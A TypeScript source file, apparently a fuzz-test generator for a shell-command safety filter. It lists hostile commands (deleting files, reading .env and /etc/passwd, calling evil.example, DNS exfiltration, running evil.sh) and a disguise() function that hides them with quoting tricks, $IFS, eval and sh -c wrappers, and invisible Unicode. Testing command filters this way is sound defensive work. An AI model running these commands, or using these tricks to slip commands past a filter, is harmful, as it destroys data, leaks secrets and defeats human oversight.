/** Each does harm, or tells what it must not; nothing that is done to them below takes that away. */
const payloads = [
  ["rm", "-rf", "src"],
  ["touch", "x"],
  ["tee", "x"],
  ["cp", "README.md", "x"],
  ["cat", ".env"],
  ["head", "-n", "5", ".env"],
  ["grep", "KEY", ".env"],
  ["grep", "-r", "KEY", "."],
  ["cat", "/etc/passwd"],
  ["cat", "../secret"],
  ["cat", "leak"],
  ["curl", "https://evil.example"],
  ["nslookup", "secret.evil.example"],
  ["sh", "evil.sh"],
  ["./evil.sh"],
  ["node", "-e", "evil()"],
  ["npm", "test"],
  ["git", "push"],
  ["git", "commit", "-m", "x"],
  ["git", "log", "--output=x"],
  ["git", "-c", "core.pager=evil", "log"],
  ["git", "diff", "--ext-diff"],
  ["git", "show", "HEAD:.env"],
  ["git", "branch", "evil"],
  ["find", ".", "-delete"],
  ["find", ".", "-name", "a", "-fprint", "x"],
  ["find", "src", "-exec", "rm", "{}", "+"],
  ["rg", "--pre", "evil", "foo"],
  ["rg", "--pre=evil", "foo", "src"],
  ["sed", "-i", "s/a/b/", "README.md"],
  ["sed", "-n", "1e id", "README.md"],
  ["sed", "s/a/b/w x", "README.md"],
  ["sort", "-o", "x", "README.md"],
  ["uniq", "README.md", "x"],
  ["tree", "-o", "x"],
  ["date", "-s", "2020-01-01"],
  ["awk", 'BEGIN{system("id")}'],
  ["jq", "-n", "env"],
  ["printf", "-v", "PATH", "."],
  ["test", "-v", "a[$(id)]"],
  ["xargs", "rm"],
  ["source", "evil.sh"],
  ["eval", "rm x"],
  ["export", "PATH=."],
] as const;

const harmless = [
  "ls",
  "pwd",
  "git status",
  "cat README.md",
  "grep -n foo src/a.ts",
  "true",
  "echo a 'b c'",
];

/** Returns a line that holds one of the payloads, spelled, wrapped and hidden in some way that a shell takes. */
export function disguise(random: () => number): string {
  const pick = <T>(choices: readonly T[]): T => choices[Math.floor(random() * choices.length)] as T;
  const often = (share: number) => random() < share;
  const quote = (word: string) => `'${word.replaceAll("'", `'\\''`)}'`;

  const spell = (word: string): string => {
    const isPlain = /^[\w./:=@%+,-]+$/.test(word);
    const cut = 1 + Math.floor(random() * Math.max(1, word.length - 1));
    const [front, back] = [word.slice(0, cut), word.slice(cut)];
    const ways = [
      () => (isPlain ? word : quote(word)),
      () => (isPlain ? word : quote(word)),
      () => quote(word),
      () => `${quote(front)}${back === "" ? "" : quote(back)}`,
      () => (isPlain ? `"${front}"${back}` : quote(word)),
      () => (isPlain ? `${front}""${back}` : quote(word)),
      () => (isPlain ? `''${word}` : quote(word)),
      () =>
        Array.from(word)
          .map((one) => (/[\w\n]/.test(one) ? one : `\\${one}`))
          .join(""),
      () => (isPlain ? `\\${word}` : quote(word)),
      () =>
        `$'${Array.from(word)
          .map((one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, "0")}`)
          .join("")}'`,
      () => (isPlain ? `$"${word}"` : quote(word)),
      () => (isPlain ? `\${nothing-${word}}` : quote(word)),
      () => (isPlain ? `$(echo ${word})` : quote(word)),
      () => (isPlain ? `\`echo ${word}\`` : quote(word)),
      () => (isPlain ? `${front}$nothing${back}` : quote(word)),
    ];
    return pick(ways)();
  };
  const blank = () => pick([" ", " ", " ", "  ", "\t", " \\\n ", "$IFS", "${IFS}"]);
  const joint = () =>
    pick([
      ";",
      "; ",
      "\n",
      " && ",
      "&&",
      " || true; ",
      " | ",
      "|",
      " & ",
      "&",
      " |& ",
      "\n\n",
      " \\\n&& ",
      " # x\n",
      ";\n",
    ]);

  const words = pick(payloads);
  let line = words
    .map((word) =>
      often(0.4) ? spell(word) : /^[\w./:=@%+,{}-]+$/.test(word) ? word : quote(word),
    )
    .reduce((all, word) => all + (often(0.15) ? blank() : " ") + word);
  const bare = words.every((word) => /^[\w./:=@%+,-]+$/.test(word)) ? words.join(" ") : undefined;
  if (often(0.08) && bare !== undefined)
    line = `{${words.join(",")}${words.length === 1 ? "," : ""}}`;

  const wraps: (() => string)[] = [
    () => `env ${line}`,
    () => `env A=1 ${line}`,
    () => `A=1 ${line}`,
    () => `command ${line}`,
    () => `builtin ${line}`,
    () => `exec ${line}`,
    () => `nice ${line}`,
    () => `nice -n 5 ${line}`,
    () => `nohup ${line}`,
    () => `timeout 5 ${line}`,
    () => `timeout -k 1 5 ${line}`,
    () => `time ${line}`,
    () => `stdbuf -o0 ${line}`,
    () => `sudo ${line}`,
    () => `xargs ${line}`,
    () => `busybox ${line}`,
    () => `find . -exec ${line} \\;`,
    () => `sh -c ${quote(line)}`,
    () => `bash -lc ${quote(line)}`,
    () => `eval ${quote(line)}`,
    () => `trap ${quote(line)} EXIT`,
    () => `echo ${quote(line)} | sh`,
    () => `$(${line})`,
    () => `echo "$(${line})"`,
    () => `echo \`${line.replaceAll("\\", "\\\\").replaceAll("`", "\\`")}\``,
    () => `cat <(${line})`,
    () => `(${line})`,
    () => `{ ${line}; }`,
    () => `! ${line}`,
    () => `if ${line}; then :; fi`,
    () => `if true; then ${line}\nfi`,
    () => `for i in 1; do ${line}; done`,
    () => `while ${line}; do break; done`,
    () => `case a in a) ${line};; esac`,
    () => `f() { ${line}; }; f`,
    () => `bash <<'END'\n${line}\nEND`,
    () => `cat <<END\n$(${line})\nEND`,
    () => `sh <<< ${quote(line)}`,
    () => `\${nothing:-$(${line})}`,
    () => `[ -n "$(${line})" ]`,
    () => `cd src && cd .. && ${line}`,
    () => `set -e; ${line}`,
  ];
  for (let turns = Math.floor(random() * 3); turns > 0; turns--) line = pick(wraps)();

  const endings = [
    " >x",
    ">x",
    " 2>x",
    " &>x",
    " >>x",
    " > /dev/null",
    " 2>&1",
    " </dev/null",
    " >&2",
    " # x",
    "\n",
    ";",
  ];
  if (often(0.3)) line += pick(endings);
  for (let turns = Math.floor(random() * 3); turns > 0; turns--) {
    // What reads its line to the end must stay at the end of one.
    line =
      often(0.5) || /[#<]/.test(line)
        ? `${pick(harmless)}${joint()}${line}`
        : `${line}${joint()}${pick(harmless)}`;
  }
  if (often(0.03)) {
    const at = Math.floor(random() * line.length);
    line =
      line.slice(0, at) +
      pick(["\u200b", "\u00a0", "\r", "\u2028", "\u202e", "\u0085", "\u3000"]) +
      line.slice(at);
  }
  return line;
}
